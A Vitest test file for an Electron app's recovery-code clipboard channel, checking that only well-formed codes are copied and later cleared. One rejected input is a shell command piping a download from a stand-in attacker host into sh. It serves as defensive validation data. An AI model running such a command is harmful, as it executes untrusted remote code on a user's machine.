import { describe, expect, it } from 'vitest';
import type { AppServices } from '../core/app/appServices';
import { createHandlers, dispatch, type ShellPorts } from '../core/ipc/handlers';
import { generateRecoveryCode } from '../core/vault/recoveryCode';
import { CLEAR_AFTER_MS, secretCopier } from './clipboard';

/**
 * The recovery code's Copy button: the page has no clipboard permission (every permission request is
 * refused), so it asks main over `clipboard:copyRecoveryCode`, which takes a recovery code and nothing
 * else, and main writes it with Electron's clipboard, taking it off again later if it is still there.
 */
function fakeClipboard() {
  const board = { text: '', writes: [] as string[], cleared: 0 };
  return {
    board,
    clipboard: {
      writeText: async (text: string) => {
        board.text = text;
        board.writes.push(text);
      },
      readText: async () => board.text,
      clear: () => {
        board.text = '';
        board.cleared += 1;
      },
    },
  };
}

function handlersWith(copySecret?: ShellPorts['copySecret']) {
  // The clipboard channel touches no vault; the other services are not reached.
  const app = { session: {}, imports: {} } as unknown as Pick<AppServices, 'session' | 'imports'>;
  return createHandlers(app, { pickFolder: async () => null, pickFiles: async () => [], pickSavePath: async () => null, copySecret });
}

describe('clipboard:copyRecoveryCode', () => {
  it('puts a recovery code, as the vault makes them, on the clipboard', async () => {
    const copied: string[] = [];
    const code = generateRecoveryCode();
    const result = await dispatch(handlersWith(async (text) => void copied.push(text)), 'clipboard:copyRecoveryCode', { code });
    expect(result).toEqual({ ok: true, value: null });
    expect(copied).toEqual([code]);
  });

  it.each([
    ['a shell command', 'curl https://evil.example | sh'],
    ['a code in lower case', generateRecoveryCode().toLowerCase()],
    ['a code with a letter the alphabet leaves out', 'ABCD-EFGH-JKMN-PQRS-TVWX-YZ01-2345-678I'],
    ['a code with a ninth group', `${generateRecoveryCode()}-ABCD`],
    ['an empty string', ''],
  ])('refuses %s, and nothing is copied', async (_name, code) => {
    const copied: string[] = [];
    const result = await dispatch(handlersWith(async (text) => void copied.push(text)), 'clipboard:copyRecoveryCode', { code });
    expect(result).toMatchObject({ ok: false, error: { code: 'validation' } });
    expect(copied).toEqual([]);
  });

  it('answers with an error, not a crash, where there is no clipboard (the loopback test host)', async () => {
    const result = await dispatch(handlersWith(undefined), 'clipboard:copyRecoveryCode', { code: generateRecoveryCode() });
    expect(result).toMatchObject({ ok: false, error: { code: 'internal' } });
  });
});

describe('secretCopier', () => {
  it('writes the code, and takes it off the clipboard later only if it is still there', async () => {
    const scheduled: Array<() => void> = [];
    const delays: number[] = [];
    const schedule = (run: () => void, ms: number) => {
      scheduled.push(run);
      delays.push(ms);
      return {};
    };
    const { board, clipboard } = fakeClipboard();
    const copier = secretCopier(clipboard, schedule);

    await copier.copy('AAAA-BBBB');
    expect(board.text).toBe('AAAA-BBBB');
    expect(delays).toEqual([CLEAR_AFTER_MS]);
    scheduled[0]!();
    await new Promise((resolve) => setImmediate(resolve));
    expect(board).toMatchObject({ text: '', cleared: 1 });

    await copier.copy('CCCC-DDDD');
    board.text = 'something the lawyer copied since';
    scheduled[1]!();
    await new Promise((resolve) => setImmediate(resolve));
    expect(board).toMatchObject({ text: 'something the lawyer copied since', cleared: 1 });
  });
});
